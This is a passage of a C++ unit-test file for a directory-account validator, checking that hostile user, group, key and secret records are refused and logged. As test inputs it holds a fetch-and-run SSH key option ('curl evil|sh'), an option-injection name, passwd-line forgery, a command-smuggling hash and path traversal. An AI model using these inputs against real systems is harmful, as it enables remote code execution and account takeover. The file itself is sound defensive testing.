// SPDX-License-Identifier: Apache-2.0
// test_validate.cc — unit tests of validate.h: hostile directory records are refused, logged.
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <csetjmp>
#include <cstdarg>
#include <cstddef>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

extern "C" {
#include <cmocka.h>
}

#include "config/config.h"
#include "directory/validate.h"
#include "system/error.h"
#include "system/log.h"

namespace {

using dirbind::Config;
using dirbind::Directory;
using dirbind::Group;
using dirbind::LocalAccounts;
using dirbind::RawDirectory;
using dirbind::Skipped;
using dirbind::SshKey;
using dirbind::User;

const std::string kKey = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDgyVPPRgVrvsAszO/HGLRac3A1shSQVqpX+dPbAWkpK";

std::vector<std::string> g_log;
void capture(dirbind::LogLevel level, const std::string& message) {
    if (level == dirbind::LogLevel::warning) g_log.push_back(message);
}

int setup(void**) {
    g_log.clear();
    dirbind::set_log_sink(capture);
    return 0;
}
int teardown(void**) {
    dirbind::set_log_sink(nullptr);
    return 0;
}

LocalAccounts local() {
    LocalAccounts l;
    l.users = {"root", "daemon", "bob", "admin"};
    l.uids = {0, 1, 1000, 1001};
    l.groups = {{"root", 0}, {"users", 100}, {"sudo", 27}, {"docker", 998}, {"bob", 1000}, {"staff", 50}};
    l.gids = {0, 100, 27, 998, 1000, 50};
    l.homes = {"/root", "/home/bob", "/home/admin"};
    return l;
}

User user(const std::string& name, std::uint32_t uid, std::uint32_t gid = 0) {
    static int n = 0;
    User u;
    u.name = name;
    u.uid = uid;
    u.gid = gid ? gid : uid;
    u.where = "directory.yaml:" + std::to_string(++n);
    return u;
}

User at(User u, const char* where) {
    u.where = where;
    return u;
}

Group group(const std::string& name, std::uint32_t gid, std::vector<std::string> members = {}) {
    return Group{name, gid, std::move(members), "groups[" + name + "]"};
}

struct Result {
    Directory dir;
    std::vector<Skipped> skipped;
};

Result run(const RawDirectory& raw, const Config& cfg = Config{}, const LocalAccounts& l = local()) {
    g_log.clear();
    Result r;
    r.dir = dirbind::validate_directory(RawDirectory(raw), cfg, l, &r.skipped);
    // Every skipped record is also logged, once.
    assert_int_equal(g_log.size() >= r.skipped.size(), 1);
    return r;
}

const User* find_user(const Directory& d, const std::string& name) {
    for (const auto& u : d.users)
        if (u.name == name) return &u;
    return nullptr;
}
const Group* find_group(const Directory& d, const std::string& name) {
    for (const auto& g : d.groups)
        if (g.name == name) return &g;
    return nullptr;
}

// The one user of `u` is refused with `reason` in the message; nothing is served.
void expect_skipped(const char* label, const User& u, const char* reason, const Config& cfg = Config{}) {
    RawDirectory raw;
    raw.users.push_back(u);
    Result r = run(raw, cfg);
    if (!r.dir.users.empty()) fail_msg("case '%s': user accepted", label);
    if (!r.dir.groups.empty()) fail_msg("case '%s': a group was created", label);
    if (r.skipped.size() != 1 || r.skipped[0].what != "user")
        fail_msg("case '%s': %zu skipped records", label, r.skipped.size());
    if (r.skipped[0].reason.find(reason) == std::string::npos)
        fail_msg("case '%s': reason '%s', expected '%s'", label, r.skipped[0].reason.c_str(), reason);
}

// ---- users ----------------------------------------------------------------------------

void test_valid_user_is_completed(void**) {
    RawDirectory raw;
    raw.system.password_auth = true;
    User u = user("alice", 2001);
    u.gecos = "Alice Example, Room 4";
    u.ssh_keys = {SshKey{"laptop", kKey + " alice@laptop"}};
    u.gids = {0};  // whatever a source left here is recomputed
    raw.users.push_back(u);
    Result r = run(raw);
    assert_int_equal(r.skipped.size(), 0);
    assert_int_equal(g_log.size(), 0);
    assert_true(r.dir.system.password_auth);
    assert_int_equal(r.dir.users.size(), 1);
    const User& a = r.dir.users[0];
    assert_string_equal(a.home.c_str(), "/home/alice");
    assert_string_equal(a.shell.c_str(), "/bin/bash");
    assert_int_equal(a.gids.size(), 0);
    assert_int_equal(a.ssh_keys.size(), 1);
    assert_string_equal(a.ssh_keys[0].line.c_str(), (kKey + " alice@laptop").c_str());
    // Private group: named after the user, the user's gid, no explicit members.
    assert_int_equal(r.dir.groups.size(), 1);
    assert_string_equal(r.dir.groups[0].name.c_str(), "alice");
    assert_int_equal(r.dir.groups[0].gid, 2001);
    assert_int_equal(r.dir.groups[0].members.size(), 0);
}

void test_uid_zero_and_reserved_ranges(void**) {
    struct Case {
        const char* label;
        std::uint32_t uid, gid;
        const char* reason;
    };
    const Case cases[] = {
        {"uid 0", 0, 2000, "uid 0 is never served"},
        {"gid 0", 2000, 0, "gid 0 is never served"},
        {"system uid", 999, 2000, "uid 999 is in a reserved"},
        {"system gid", 2000, 27, "gid 27 is in a reserved"},
        {"nspawn range", 60001, 2000, "reserved"},
        {"nspawn range end", 60577, 2000, "reserved"},
        {"dynamic users", 61184, 2000, "reserved"},
        {"dynamic users end", 65519, 2000, "reserved"},
        {"nobody", 65534, 2000, "reserved"},
        {"uid -1 as u16", 65535, 2000, "reserved"},
        {"2^31", 0x80000000u, 2000, "reserved"},
        {"uid -1", 0xffffffffu, 2000, "reserved"},
        {"above range", 60000 + 1000000, 2000, "outside the configured range 1000-60000"},
        {"gid above range", 2000, 1000000, "gid 1000000 is outside"},
    };
    for (const auto& c : cases) {
        User u = user("alice", c.uid, 1);
        u.gid = c.gid;
        expect_skipped(c.label, u, c.reason);
    }
    // A wider configured range never opens the reserved ones.
    Config wide;
    wide.uid_range = {1, 0xffffffffu};
    expect_skipped("wide range, uid 0", user("alice", 0, 2000), "uid 0 is never served", wide);
    expect_skipped("wide range, uid 500", user("alice", 500, 2000), "reserved", wide);
    expect_skipped("wide range, nobody", user("alice", 65534, 2000), "reserved", wide);
    RawDirectory raw;
    raw.users = {user("alice", 70000)};
    assert_int_equal(run(raw, wide).dir.users.size(), 1);
    // A narrower one is honoured.
    Config narrow;
    narrow.uid_range = {5000, 5999};
    expect_skipped("below narrow range", user("alice", 4999), "outside the configured range 5000-5999",
                   narrow);
}

void test_root_is_never_served(void**) {
    LocalAccounts none;  // even with no local passwd at all (containers)
    RawDirectory raw;
    raw.users = {user("root", 5000)};
    raw.groups = {group("root", 5001), group("wheel", 0)};
    Result r = run(raw, Config{}, none);
    assert_int_equal(r.dir.users.size(), 0);
    assert_int_equal(r.dir.groups.size(), 0);
    assert_int_equal(r.skipped.size(), 3);
}

void test_local_account_wins(void**) {
    RawDirectory raw;
    raw.users = {at(user("bob", 3000), "directory.yaml:12")};
    Result r = run(raw);
    assert_int_equal(r.dir.users.size(), 0);
    assert_int_equal(r.skipped.size(), 1);
    assert_string_equal(r.skipped[0].what.c_str(), "user");
    assert_string_equal(r.skipped[0].name.c_str(), "bob");
    assert_string_equal(r.skipped[0].reason.c_str(),
                        "name bob is a local account in /etc/passwd; the local account wins");
    assert_int_equal(g_log.size(), 1);
    assert_string_equal(g_log[0].c_str(),
                        "skipping user bob (directory.yaml:12): name bob is a local account "
                        "in /etc/passwd; the local account wins");

    expect_skipped("local uid", user("carol", 1001, 3000), "uid 1001 is a local account in /etc/passwd");
    Config c;
    c.local_passwd = "/srv/passwd";
    expect_skipped("message names the file", user("bob", 3000), "local account in /srv/passwd", c);
}

void test_duplicates_first_wins(void**) {
    RawDirectory raw;
    raw.users = {at(user("alice", 2001), "d:1"), at(user("alice", 2002), "d:2"),
                 at(user("dave", 2001, 2003), "d:3"), at(user("erin", 2004), "d:4")};
    Result r = run(raw);
    assert_int_equal(r.dir.users.size(), 2);
    assert_string_equal(r.dir.users[0].name.c_str(), "alice");
    assert_int_equal(r.dir.users[0].uid, 2001);
    assert_string_equal(r.dir.users[1].name.c_str(), "erin");
    assert_int_equal(r.skipped.size(), 2);
    assert_string_equal(r.skipped[0].reason.c_str(),
                        "duplicate user name; the first one is user alice (d:1)");
    assert_string_equal(r.skipped[1].name.c_str(), "dave");
    assert_string_equal(r.skipped[1].reason.c_str(), "uid 2001 is already used by user alice (d:1)");
}

void test_hostile_names(void**) {
    struct Case {
        const char* label;
        std::string name;
    };
    const Case cases[] = {
        {"colon", "ali:ce"},     {"newline", "alice\nroot"},
        {"slash", "../../etc"},  {"upper case", "Alice"},
        {"digits only", "1234"}, {"leading dash", "-oProxyCommand"},
        {"empty", ""},           {"too long", std::string(33, 'a')},
    };
    for (const auto& c : cases) expect_skipped(c.label, user(c.name, 2001), "invalid user name");

    // The reason and the log line stay one line: the name is escaped, not echoed raw.
    RawDirectory raw;
    raw.users = {at(user("x\nskipping user root", 2001), "d:9")};
    Result r = run(raw);
    assert_int_equal(r.skipped.size(), 1);
    assert_string_equal(r.skipped[0].name.c_str(), "x\\x0askipping user root");
    assert_int_equal(g_log.size(), 1);
    assert_null(std::strchr(g_log[0].c_str(), '\n'));
    assert_string_equal(g_log[0].c_str(), "skipping user x\\x0askipping user root (d:9): invalid user name");
}

void test_hostile_gecos(void**) {
    const char* bad[] = {"Alice:0:0:root", "Alice\nroot::0:0::/root:/bin/sh", "a\x1b[2J", "\xff\xfe"};
    for (const char* g : bad) {
        User u = user("alice", 2001);
        u.gecos = g;
        expect_skipped(g, u, "gecos");
    }
    User u = user("alice", 2001);
    u.gecos = std::string(257, 'a');
    expect_skipped("long gecos", u, "gecos");
}

// ---- homes and shells -----------------------------------------------------------------

void test_check_home(void**) {
    Config c;  // home: /home/%u → base /home
    const char* bad[] = {"",
                         "/",
                         "home/alice",
                         "../home/alice",
                         "/home/../etc",
                         "/home/alice/..",
                         "/home/./alice",
                         "/home//alice",
                         "/home/alice/",
                         "/home",
                         "/etc/alice",
                         "/homeevil/alice",
                         "/home/a:b",
                         "/home/a\nb",
                         "/home/a\tb",
                         "/home/."};
    for (const char* h : bad)
        if (dirbind::check_home(c, h).empty()) fail_msg("home '%s' accepted", h);
    assert_false(dirbind::check_home(c, "/home/" + std::string(4092, 'a')).empty());
    assert_string_equal(dirbind::check_home(c, "/home/alice").c_str(), "");
    assert_string_equal(dirbind::check_home(c, "/home/team/alice").c_str(), "");
    assert_string_equal(dirbind::check_home(c, "/home/alice.smith").c_str(), "");
    assert_string_equal(dirbind::check_home(c, "/home/..alice").c_str(), "");
    // Another base.
    c.home = "/srv/homes/%u";
    assert_false(dirbind::check_home(c, "/home/alice").empty());
    assert_false(dirbind::check_home(c, "/srv/homes").empty());
    assert_string_equal(dirbind::check_home(c, "/srv/homes/alice").c_str(), "");
}

void test_homes_in_directory(void**) {
    struct Case {
        const char* label;
        const char* home;
        const char* reason;
    };
    const Case cases[] = {
        {"root dir", "/", "home is /"},
        {"traversal", "/home/../", "'..'"},
        {"relative traversal", "../", "not an absolute path"},
        {"outside base", "/etc", "not below the home base /home"},
        {"the base", "/home", "home base /home itself"},
        {"local account's home", "/home/admin", "home of a local account"},
    };
    for (const auto& c : cases) {
        User u = user("alice", 2001);
        u.home = c.home;
        expect_skipped(c.label, u, c.reason);
    }
    // Two directory users cannot share a home either; the template counts.
    RawDirectory raw;
    User a = at(user("alice", 2001), "d:1"), m = at(user("mallory", 2002), "d:2");
    m.home = "/home/alice";
    raw.users = {a, m};
    Result r = run(raw);
    assert_int_equal(r.dir.users.size(), 1);
    assert_int_equal(r.skipped.size(), 1);
    assert_string_equal(r.skipped[0].reason.c_str(), "home is already the home of user alice (d:1)");
}

void test_shells(void**) {
    const char* bad[] = {"",         "bin/bash", "/bin/ba sh", "/bin/../bin/sh", "/bin/sh:",
                         "/bin/sh/", "/",        "/bin//sh",   "/bin/sh\n",      "/bin/./sh"};
    for (const char* s : bad)
        if (dirbind::check_shell(s).empty()) fail_msg("shell '%s' accepted", s);
    assert_string_equal(dirbind::check_shell("/bin/bash").c_str(), "");
    assert_string_equal(dirbind::check_shell("/usr/bin/zsh").c_str(), "");

    User u = user("alice", 2001);
    u.shell = "/bin/sh -c id";
    expect_skipped("shell with space", u, "space");
    Config c;
    c.shell = "/bin/zsh";
    RawDirectory raw;
    raw.users = {user("alice", 2001), user("carol", 2002)};
    raw.users[1].shell = "/usr/bin/fish";
    Result r = run(raw, c);
    assert_string_equal(r.dir.users.at(0).shell.c_str(), "/bin/zsh");
    assert_string_equal(r.dir.users.at(1).shell.c_str(), "/usr/bin/fish");
}

// ---- secrets --------------------------------------------------------------------------

void test_password_hash(void**) {
    const char* good[] = {"",
                          "$6$saltsalt$0123456789abcdefABCDEF./",
                          "$y$j9T$F5Jx5fExrKuPp53xLKQ..1$X3DX6M94c7o",
                          "$2b$10$abcdefghijklmnopqrstuuKsc1a3BHQ7QS3zE3zJ0jAaJ6nS7Ngm",
                          "$6$rounds=5000$salt$hash",
                          "$gy$j9T$salt$hash"};
    for (const char* h : good)
        if (!dirbind::check_password_hash(h).empty()) fail_msg("hash '%s' refused", h);
    std::string secret = "$6$salt$s3cr3tValue";
    const std::string bad[] = {"plaintext",
                               "$",
                               "$$abc",
                               "$6",
                               "$6$a b$c",
                               "$6$x:y$z",
                               "!$6$salt$hash",
                               "*",
                               "$6$salt$hash\n",
                               "$6$salt$h\xc3\xa9",
                               "$6$" + std::string(510, 'a'),
                               "$A$salt$hash",
                               secret + ";rm"};
    for (const auto& h : bad) {
        std::string r = dirbind::check_password_hash(h);
        if (r.empty()) fail_msg("hash '%s' accepted", h.c_str());
        // Never echo the hash: reasons end up in logs.
        assert_true(r.find("s3cr3t") == std::string::npos);
        assert_true(r.find("salt") == std::string::npos);
    }
    User u = user("alice", 2001);
    u.password_hash = secret + "\n";
    expect_skipped("bad hash skips the user", u, "password hash");
    for (const auto& line : g_log) assert_true(line.find("s3cr3t") == std::string::npos);
}

void test_totp_secret(void**) {
    const char* good[] = {"",
                          "JBSWY3DPEHPK3PXP",
                          "JBSWY3DPEHPK3PXPJBSWY3D=",
                          "GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ",
                          "JBSWY3DPEHPK3PX=",
                          "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"};
    for (const char* t : good)
        if (!dirbind::check_totp_secret(t).empty()) fail_msg("totp '%s' refused", t);
    struct Case {
        std::string value;
        const char* reason;
    };
    const Case bad[] = {
        {"jbswy3dpehpk3pxp", "upper-case"},  // never folded
        {"JBSWY3DPEHPK3pxp", "upper-case"},
        {"JBSWY3DPEHPK3PX", "16 to 128"},  // too short
        {std::string(129, 'A'), "16 to 128"},
        {"JBSWY3DPEHPK3PX1", "not base32"},  // 1 and 8 are not base32
        {"JBSWY3DPEHPK3PX8", "not base32"},
        {"JBSWY3DP EHPK3PXP", "not base32"},
        {"JBSWY3DP=EHPK3PXP", "not base32"},  // padding inside
        {"JBSWY3DPEHPK3PXPA=", "padding"},    // 18 chars: padding must fill a block of 8
        {"JBSWY3DPEHPK3P=====", "padding"},
        {"JBSWY3DPEHPK3P==", "padding"},  // two '=' never end a base32 block
        {"================", "not base32"},
    };
    for (const auto& c : bad) {
        std::string r = dirbind::check_totp_secret(c.value);
        if (r.find(c.reason) == std::string::npos)
            fail_msg("totp '%s': got '%s', expected '%s'", c.value.c_str(), r.c_str(), c.reason);
        assert_true(r.find("JBSWY") == std::string::npos);
    }
    User u = user("alice", 2001);
    u.totp_secret = "jbswy3dpehpk3pxp";
    expect_skipped("lower-case totp skips the user", u, "totp");
}

// ---- keys -----------------------------------------------------------------------------

void test_bad_key_dropped_user_kept(void**) {
    RawDirectory raw;
    User u = at(user("alice", 2001), "d:7");
    const std::string b64 = kKey.substr(kKey.find(' ') + 1);
    u.ssh_keys = {
        SshKey{"laptop", "ssh-ed25519   " + b64 + "   alice@laptop"},  // re-serialised
        SshKey{"phone", "ssh-rsa " + b64},
        SshKey{"", "command=\"curl evil|sh\" " + kKey},
        SshKey{"second", kKey + "\nssh-ed25519 " + b64},
        SshKey{"pasted", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjE=\n"},
        SshKey{"bad:name", kKey},
        SshKey{"", kKey},
    };
    raw.users = {u};
    Result r = run(raw);
    assert_int_equal(r.dir.users.size(), 1);
    const User& a = r.dir.users[0];
    assert_int_equal(a.ssh_keys.size(), 2);
    assert_string_equal(a.ssh_keys[0].name.c_str(), "laptop");
    assert_string_equal(a.ssh_keys[0].line.c_str(), (kKey + " alice@laptop").c_str());
    assert_string_equal(a.ssh_keys[1].line.c_str(), kKey.c_str());
    assert_int_equal(r.skipped.size(), 5);
    for (const auto& s : r.skipped) {
        assert_string_equal(s.what.c_str(), "key");
        assert_string_equal(s.name.c_str(), "alice");
    }
    assert_string_equal(r.skipped[0].reason.c_str(), "key 'phone': inner type ssh-ed25519 != ssh-rsa");
    assert_non_null(std::strstr(r.skipped[1].reason.c_str(), "key #3: key options"));
    assert_non_null(std::strstr(r.skipped[2].reason.c_str(), "key 'second': control character (newline)"));
    assert_non_null(std::strstr(r.skipped[3].reason.c_str(), "key 'pasted': looks like a private key"));
    assert_non_null(std::strstr(r.skipped[4].reason.c_str(), "key #6: key name"));
    assert_int_equal(g_log.size(), 5);
    assert_string_equal(g_log[0].c_str(),
                        "dropping key of user alice (d:7): key 'phone': inner type ssh-ed25519 != ssh-rsa");
}

// ---- groups ---------------------------------------------------------------------------

void test_group_rules(void**) {
    RawDirectory raw;
    raw.groups = {group("devs", 3000), group("Devs", 3001), group("sudo", 3002),
                  group("ops", 998),   group("qa", 27),     group("devs", 3003),
                  group("web", 3000),  group("a:b", 3004),  group("ok", 3005)};
    Result r = run(raw);
    assert_int_equal(r.dir.groups.size(), 2);
    assert_string_equal(r.dir.groups[0].name.c_str(), "devs");
    assert_string_equal(r.dir.groups[1].name.c_str(), "ok");
    const char* reasons[] = {"invalid group name",
                             "name sudo is a local group in /etc/group; the local group wins",
                             "reserved",  // 998 is below 1000 before it is docker's
                             "reserved",
                             "duplicate group name; the first one is group devs (groups[devs])",
                             "gid 3000 is already used by group devs (groups[devs])",
                             "invalid group name"};
    assert_int_equal(r.skipped.size(), 7);
    for (std::size_t i = 0; i < 7; ++i) {
        assert_string_equal(r.skipped[i].what.c_str(), "group");
        if (r.skipped[i].reason.find(reasons[i]) == std::string::npos)
            fail_msg("%zu: '%s'", i, r.skipped[i].reason.c_str());
    }
    // A local gid inside the range still wins.
    LocalAccounts l = local();
    l.gids.insert(4000);
    raw.groups = {group("ops", 4000)};
    r = run(raw, Config{}, l);
    assert_int_equal(r.dir.groups.size(), 0);
    assert_string_equal(r.skipped.at(0).reason.c_str(),
                        "gid 4000 is a local group in /etc/group; the local group wins");
}

void test_primary_group_and_private_groups(void**) {
    RawDirectory raw;
    raw.groups = {group("devs", 3000)};
    raw.users = {at(user("alice", 2001, 3000), "d:1"), at(user("carol", 2002), "d:2"),
                 at(user("dave", 2003, 2002), "d:3")};
    Result r = run(raw);
    // alice uses devs; carol gets a private group; dave may not share carol's private group.
    assert_int_equal(r.dir.users.size(), 2);
    assert_int_equal(r.dir.groups.size(), 2);
    const Group* carol = find_group(r.dir, "carol");
    assert_non_null(carol);
    assert_int_equal(carol->gid, 2002);
    assert_null(find_group(r.dir, "alice"));
    assert_int_equal(r.skipped.size(), 1);
    assert_string_equal(r.skipped[0].name.c_str(), "dave");
    assert_string_equal(r.skipped[0].reason.c_str(), "gid 2002 is the private group of user carol (d:2)");
}

void test_private_group_name_taken(void**) {
    // By a directory group with another gid.
    RawDirectory raw;
    raw.groups = {group("alice", 3000)};
    raw.users = {user("alice", 2001)};
    Result r = run(raw);
    assert_int_equal(r.dir.users.size(), 0);
    assert_int_equal(r.skipped.size(), 1);
    assert_string_equal(
        r.skipped[0].reason.c_str(),
        "no directory group has gid 2001 and the private group name alice is taken by group alice "
        "(groups[alice])");
    // By a local group name, or a local gid.
    expect_skipped("local group name", user("staff", 2001),
                   "private group name staff is a local group in /etc/group");
    expect_skipped("local gid", user("erin", 2001, 1000), "gid 1000 is a local group in /etc/group");
    // A directory group with the user's gid is fine even when it has the user's name.
    raw.groups = {group("alice", 2001)};
    r = run(raw);
    assert_int_equal(r.dir.users.size(), 1);
    assert_int_equal(r.dir.groups.size(), 1);
}

void test_local_group_allowlist(void**) {
    RawDirectory raw;
    raw.groups = {group("devs", 3000)};
    User u = at(user("alice", 2001), "d:1");
    u.groups = {"docker", "sudo", "devs", "ghost", "nonexistent"};
    raw.users = {u};

    // Off: only the directory group.
    Result r = run(raw);
    assert_int_equal(r.dir.users.size(), 1);
    assert_int_equal(r.dir.users[0].gids.size(), 1);
    assert_int_equal(r.dir.users[0].gids[0], 3000);
    assert_int_equal(r.skipped.size(), 4);
    for (const auto& s : r.skipped) {
        assert_string_equal(s.what.c_str(), "membership");
        assert_string_equal(s.name.c_str(), "alice");
    }
    assert_string_equal(r.skipped[0].reason.c_str(),
                        "group docker is neither a directory group nor in local_groups; membership dropped");
    assert_string_equal(g_log.at(0).c_str(),
                        "dropping membership of user alice (d:1): group docker is neither a "
                        "directory group nor in local_groups; membership dropped");

    // On for docker (exists locally) and nonexistent (does not).
    Config c;
    c.local_groups = {"docker", "nonexistent"};
    r = run(raw, c);
    assert_int_equal(r.dir.users[0].gids.size(), 2);
    assert_int_equal(r.dir.users[0].gids[0], 998);
    assert_int_equal(r.dir.users[0].gids[1], 3000);
    assert_int_equal(r.skipped.size(), 3);  // sudo, ghost, nonexistent
    assert_string_equal(r.skipped[2].reason.c_str(),
                        "group nonexistent is in local_groups but not in /etc/group; membership dropped");
    // Local groups are not directory groups: nothing is added to Directory::groups.
    assert_null(find_group(r.dir, "docker"));
}

void test_member_aggregation(void**) {
    RawDirectory raw;
    raw.groups = {group("devs", 3000, {"carol", "ghost", "bob", "carol", "Bad\nName"}), group("ops", 3001)};
    User a = user("alice", 2001), c = user("carol", 2002), d = user("dave", 2003, 3000);
    a.groups = {"devs", "ops", "devs"};
    c.groups = {"devs", "carol"};  // its own private group: already the primary gid
    d.groups = {"devs", "ops"};    // devs is dave's primary group: a member, but not in gids
    raw.users = {a, c, d};
    Result r = run(raw);
    assert_int_equal(r.dir.users.size(), 3);
    const Group* devs = find_group(r.dir, "devs");
    assert_non_null(devs);
    std::vector<std::string> want{"carol", "alice", "dave"};
    assert_true(devs->members == want);
    const Group* ops = find_group(r.dir, "ops");
    want = {"alice", "dave"};
    assert_true(ops->members == want);
    std::vector<std::uint32_t> gids{3000, 3001};
    assert_true(find_user(r.dir, "alice")->gids == gids);
    gids = {3001};
    assert_true(find_user(r.dir, "dave")->gids == gids);
    gids = {3000};
    assert_true(find_user(r.dir, "carol")->gids == gids);
    // Unknown, local and malformed members are dropped, each with a log line.
    assert_int_equal(r.skipped.size(), 0);
    int dropped = 0;
    for (const auto& line : g_log) {
        assert_null(std::strchr(line.c_str(), '\n'));
        if (line.find("dropping member") != std::string::npos) ++dropped;
    }
    assert_int_equal(dropped, 3);
    // Someone else's private group cannot be joined.
    raw.groups.clear();
    a.groups.clear();
    c.groups = {"alice"};
    raw.users = {a, c};
    r = run(raw);
    assert_int_equal(find_user(r.dir, "carol")->gids.size(), 0);
    assert_int_equal(r.skipped.size(), 1);
    assert_string_equal(r.skipped[0].what.c_str(), "membership");
    assert_string_equal(r.skipped[0].reason.c_str(),
                        "group alice is the private group of user alice; membership dropped");
    assert_int_equal(find_group(r.dir, "alice")->members.size(), 0);
}

// ---- local accounts -------------------------------------------------------------------

std::string g_tmp;

int tmp_setup(void** state) {
    char t[] = "/tmp/test_validate.XXXXXX";
    if (mkdtemp(t) == nullptr) return -1;
    g_tmp = t;
    return setup(state);
}

int tmp_teardown(void** state) {
    for (const char* f : {"/passwd", "/group"}) unlink((g_tmp + f).c_str());
    rmdir((g_tmp + "/dir").c_str());
    rmdir(g_tmp.c_str());
    return teardown(state);
}

void write_file(const std::string& path, const std::string& text) {
    FILE* f = std::fopen(path.c_str(), "w");
    assert_non_null(f);
    assert_int_equal(std::fwrite(text.data(), 1, text.size(), f), text.size());
    assert_int_equal(std::fclose(f), 0);
}

void test_read_local_accounts(void**) {
    Config c;
    c.local_passwd = g_tmp + "/passwd";
    c.local_group = g_tmp + "/group";
    write_file(c.local_passwd,
               "root:x:0:0:root:/root:/bin/bash\n"
               "# comment:x:5:5::/:/bin/sh\n"
               "\n"
               "Admin:x:1000:1000:Admin:/home/admin:/bin/bash\n"
               "+nisuser:x:1500:1500::/home/nis:/bin/sh\n"
               "-other::1600:1600:::\n"
               "junk:x:12ab:1000::/home/junk:/bin/sh\n"
               "neg:x:-1:1000::/home/neg:/bin/sh\n"
               "big:x:4294967296:1000::/home/big:/bin/sh\n"
               "short:x:1700\n"
               "svc:x:998:998::/var/lib/svc:/usr/sbin/nologin");  // no final newline
    write_file(c.local_group,
               "root:x:0:\n"
               "sudo:x:27:admin,bob\n"
               "docker:x:998\n"
               "sudo:x:2727:\n"
               "bad:x:x:\n"
               "+:::\n");
    LocalAccounts l = dirbind::read_local_accounts(c);
    std::set<std::string> users{"root", "Admin", "svc"};
    std::set<std::uint32_t> uids{0, 1000, 998};
    assert_true(l.users == users);
    assert_true(l.uids == uids);
    std::set<std::string> homes{"/root", "/home/admin", "/var/lib/svc"};
    assert_true(l.homes == homes);
    std::map<std::string, std::uint32_t> groups{{"root", 0}, {"sudo", 27}, {"docker", 998}};
    assert_true(l.groups == groups);
    std::set<std::uint32_t> gids{0, 27, 998, 2727};
    assert_true(l.gids == gids);

    // Missing files are empty databases.
    c.local_passwd = g_tmp + "/nope";
    c.local_group = g_tmp + "/nope2";
    l = dirbind::read_local_accounts(c);
    assert_true(l.users.empty() && l.groups.empty() && l.uids.empty() && l.gids.empty());

    // A file that exists but cannot be read stops the sync.
    assert_int_equal(mkdir((g_tmp + "/dir").c_str(), 0700), 0);
    c.local_passwd = g_tmp + "/dir";
    try {
        dirbind::read_local_accounts(c);
        fail_msg("unreadable passwd was accepted");
    } catch (const dirbind::Error& e) {
        assert_int_equal(static_cast<int>(e.code()), static_cast<int>(dirbind::Err::io));
        assert_non_null(std::strstr(e.what(), "/dir"));
    }
}


// ---- sudo groups (sudo_groups.h) --------------------------------------------------------

std::vector<std::uint32_t> gids_of(const Directory& d, const std::string& name) {
    const User* u = find_user(d, name);
    if (u == nullptr) fail_msg("user %s missing", name.c_str());
    return u->gids;
}
std::string members_of(const Directory& d, const std::string& name) {
    const Group* g = find_group(d, name);
    if (g == nullptr) return "(no group)";
    std::string m;
    for (const auto& x : g->members) m += (m.empty() ? "" : ",") + x;
    return m;
}

void test_sudo_groups_membership(void**) {
    RawDirectory raw;
    raw.groups = {group("devs", 3000)};
    User a = user("alice", 2001), b = user("bob2", 2002), c = user("carol", 2003), d = user("dave", 2004),
         e = user("erin", 2005);
    a.sudo = dirbind::Sudo::password;
    a.groups = {"devs"};
    b.sudo = dirbind::Sudo::nopasswd;
    c.sudo = dirbind::Sudo::nopasswd;
    c.state = dirbind::UserState::suspended;  // not active: no group
    e.sudo = dirbind::Sudo::password;
    e.state = dirbind::UserState::locked;
    raw.users = {a, b, c, d, e};
    Result r = run(raw);
    assert_int_equal(r.skipped.size(), 0);
    assert_string_equal(members_of(r.dir, "dirbind-sudo").c_str(), "alice");
    assert_string_equal(members_of(r.dir, "dirbind-sudo-nopasswd").c_str(), "bob2");
    assert_int_equal(find_group(r.dir, "dirbind-sudo")->gid, 65600);
    assert_int_equal(find_group(r.dir, "dirbind-sudo-nopasswd")->gid, 65601);
    assert_true(gids_of(r.dir, "alice") == (std::vector<std::uint32_t>{3000, 65600}));
    assert_true(gids_of(r.dir, "bob2") == (std::vector<std::uint32_t>{65601}));
    assert_true(gids_of(r.dir, "carol").empty());
    assert_true(gids_of(r.dir, "dave").empty());
    assert_true(gids_of(r.dir, "erin").empty());

    // Nobody with sudo: neither group is served.
    raw.users = {d};
    r = run(raw);
    assert_string_equal(members_of(r.dir, "dirbind-sudo").c_str(), "(no group)");
    assert_string_equal(members_of(r.dir, "dirbind-sudo-nopasswd").c_str(), "(no group)");

    // Names and gids from the config; the directory's `groups` cannot name a sudo group.
    Config cfg;
    cfg.sudo_groups.password = {"admins", 59000, false};
    a.groups = {"admins", "dirbind-sudo"};
    raw.users = {a};
    r = run(raw, cfg);
    assert_string_equal(members_of(r.dir, "admins").c_str(), "alice");
    assert_true(gids_of(r.dir, "alice") == (std::vector<std::uint32_t>{59000}));
    assert_int_equal(r.skipped.size(), 2);  // both memberships from `groups` dropped
    assert_string_equal(r.skipped[0].what.c_str(), "membership");
}

void test_sudo_groups_collisions(void**) {
    // Directory records that claim a sudo group's name or gid are refused, naming the key.
    Config cfg;
    cfg.file = "/etc/dirbind/dirbind.yaml";
    cfg.sudo_groups.password = {"admins", 59000, false};
    RawDirectory raw;
    raw.groups = {group("admins", 3000), group("ops", 59000), group("dirbind-sudo-nopasswd", 3001)};
    User a = user("alice", 2001), x = user("xavier", 2002, 59000);
    a.sudo = dirbind::Sudo::password;
    raw.users = {a, x};
    Result r = run(raw, cfg);
    assert_int_equal(r.skipped.size(), 4);
    assert_string_equal(r.skipped[0].reason.c_str(),
                        "name admins is this host's sudo group (sudo_groups.password in /etc/dirbind/dirbind.yaml)");
    assert_string_equal(r.skipped[1].reason.c_str(),
                        "gid 59000 is the gid of this host's sudo group admins (sudo_groups.password in "
                        "/etc/dirbind/dirbind.yaml)");
    assert_string_equal(r.skipped[2].name.c_str(), "dirbind-sudo-nopasswd");
    assert_string_equal(r.skipped[3].name.c_str(), "xavier");
    assert_string_equal(members_of(r.dir, "admins").c_str(), "alice");

    // A local group with the name or the gid: the sudo group is left out (its admins get no sudo),
    // the rest syncs.
    LocalAccounts l = local();
    l.groups.emplace("dirbind-sudo", 4000);
    l.gids.insert(4000);
    l.gids.insert(65601);
    raw.groups.clear();
    User b = user("bob2", 2003);
    b.sudo = dirbind::Sudo::nopasswd;
    raw.users = {a, b};
    r = run(raw, Config{}, l);
    assert_int_equal(r.dir.users.size(), 2);
    assert_int_equal(r.skipped.size(), 2);
    assert_string_equal(r.skipped[0].what.c_str(), "group");
